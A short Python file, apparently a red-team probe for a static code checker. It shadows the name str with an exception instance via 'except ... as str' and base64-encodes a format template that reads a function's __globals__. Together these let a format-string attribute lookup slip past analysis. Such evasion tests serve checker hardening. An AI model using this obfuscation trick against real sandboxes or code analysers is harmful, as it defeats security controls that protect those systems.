# family: red team, round 59a (rebinding str via except_as so the checker folds str(...) wrongly)
import base64


def probe():
    return 1


class E(Exception):
    def __call__(self, s):
        return base64.b64decode("ezAuX19nbG9iYWxzX199").decode()
try:
    raise E()
except E as str:
    print(str("x").format(probe))
